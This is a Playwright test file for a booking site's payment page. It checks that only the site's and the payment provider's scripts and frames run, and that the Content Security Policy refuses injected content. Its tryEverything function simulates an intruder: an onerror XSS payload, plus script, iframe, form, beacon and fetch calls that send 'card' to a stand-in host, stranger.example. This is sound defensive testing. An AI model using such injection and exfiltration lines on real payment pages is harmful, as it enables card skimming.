import { readdir } from 'node:fs/promises'
import { expect, type Page, test } from '@playwright/test'
import { authenticityToken, key } from '../../src/integrations/monri/monri-under-test.ts'
import { fakeStripe, stripeKeys } from '../providers/stripe/fake-stripe.ts'
import { fakeStripeJs } from '../providers/stripe/fake-stripe-js.ts'
import { type OwnSite, ownSite } from './own-site.ts'
import { toThePayButton } from './stripe-site.ts'

// What runs in the document in which one pays: our scripts and the provider's, each named, and nobody else's.

const bank = 'https://ipgtest.monri.com'

interface Payee {
  env: Record<string, string>
  scripts(origin: string): (string | RegExp)[]
  /** Whose frames stand in the page. */
  frames(origin: string): string[]
  /** How it looks where one is about to pay. */
  open(page: Page): Promise<void>
}

const theWindow = (page: Page) => expect(page.locator('dialog .card-box iframe')).toHaveCount(3)

const payees: Record<string, Payee> = {
  'the sandbox': {
    env: {},
    scripts: (origin) => [`${origin}/sandbox/v1.js`],
    frames: (origin) => [origin],
    open: theWindow,
  },
  Stripe: {
    env: {
      STRIPE_SECRET_KEY: stripeKeys.secretKey,
      STRIPE_PUBLISHABLE_KEY: stripeKeys.publishableKey,
      STRIPE_WEBHOOK_SECRET: stripeKeys.webhookSecret,
    },
    scripts: () => [/^https:\/\/js\.stripe\.com\/[a-z]+\/stripe\.js$/],
    frames: () => ['https://js.stripe.com'],
    open: theWindow,
  },
  Monri: {
    env: { MONRI_KEY: key, MONRI_AUTHENTICITY_TOKEN: authenticityToken, MONRI_API_BASE: bank },
    scripts: () => [],
    frames: () => [],
    open: (page) => expect(page).toHaveURL(/\/booking\/[\w-]{22}$/),
  },
}

for (const [name, payee] of Object.entries(payees)) {
  test.describe(name, () => {
    let own: OwnSite
    let origin: string
    test.beforeAll(async () => {
      own = await ownSite()
      origin = (await own.start(payee.env)).origin
    })
    test.afterAll(() => own.close())

    async function goToPay(page: Page) {
      const stripe = await fakeStripe()
      await fakeStripeJs(page, stripe, ['applePay'])
      // The bank's page doesn't come, so that ours stays.
      await page.route(`${bank}/**`, (route) => route.fulfill({ status: 204 }))
      const scripts = new Set<string>()
      page.on('request', (request) => {
        if (request.resourceType() === 'script' && request.frame() === page.mainFrame()) scripts.add(request.url())
      })
      const { payButton } = await toThePayButton(page, origin)
      const before = new Set(scripts)
      await payButton().click()
      await payee.open(page)
      await stripe.close()
      return { before, scripts }
    }

    test('runs our scripts and the provider’s, and nobody else’s', async ({ page }) => {
      const { before, scripts } = await goToPay(page)
      const built = (await readdir('build/client/assets')).map((file) => `${origin}/assets/${file}`)
      const notOurs = (addresses: Set<string>) => [...addresses].filter((address) => !built.includes(address))
      expect(notOurs(before)).toEqual([])
      const theirs = payee
        .scripts(origin)
        .map((wanted) => (typeof wanted === 'string' ? wanted : expect.stringMatching(wanted)))
      expect(notOurs(scripts)).toEqual(theirs)

      // JSON is data, and runs nowhere.
      const inDocument = await page
        .locator('script:not([type$="json"])')
        .evaluateAll((all: HTMLScriptElement[]) => all.map(({ src }) => src || 'inline'))
      expect(inDocument.filter((script) => !scripts.has(script))).toEqual([])
      const frames = page.frames().filter((frame) => frame !== page.mainFrame())
      expect([...new Set(frames.map((frame) => new URL(frame.url()).origin))]).toEqual(payee.frames(origin))
    })

    test('refuses a stranger every way in and every way out', async ({ page }) => {
      await goToPay(page)
      const reached: string[] = []
      await page.route('https://stranger.example/**', (route) => {
        reached.push(route.request().url())
        return route.fulfill({ contentType: 'text/javascript', body: 'window.stolen = true' })
      })
      await page.evaluate(tryEverything)
      const refused = () => page.evaluate(() => [...(window.refused ?? [])].sort())
      await expect
        .poll(refused)
        .toEqual([
          'connect-src https://stranger.example/beacon',
          'connect-src https://stranger.example/fetch',
          'form-action https://stranger.example/form',
          'frame-src https://stranger.example',
          'img-src https://stranger.example/picture.png',
          'script-src-attr inline',
          'script-src-elem https://stranger.example/script.js',
          'script-src-elem inline',
        ])
      expect(reached).toEqual([])
      expect(await page.evaluate(() => window.stolen)).toBeUndefined()
    })
  })
}

declare global {
  interface Window {
    refused?: Set<string>
    stolen?: true
  }
}

/** Runs in the page, as what had got into it would. */
function tryEverything() {
  const refused = new Set<string>()
  window.refused = refused
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    refused.add(`${effectiveDirective} ${blockedURI}`)
  })
  const away = 'https://stranger.example'
  const put = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, told: Partial<HTMLElementTagNameMap[Tag]>) => {
    const made = Object.assign(document.createElement(tag), told)
    document.body.append(made)
    return made
  }
  put('script', { src: `${away}/script.js` })
  put('script', { textContent: 'window.stolen = true' })
  put('div', { innerHTML: '<img src="data:," onerror="window.stolen = true">' })
  put('img', { src: `${away}/picture.png` })
  put('iframe', { src: away })
  put('form', { action: `${away}/form`, method: 'post' }).submit()
  navigator.sendBeacon(`${away}/beacon`, 'card')
  fetch(`${away}/fetch`, { method: 'POST', body: 'card' }).catch(() => {})
}
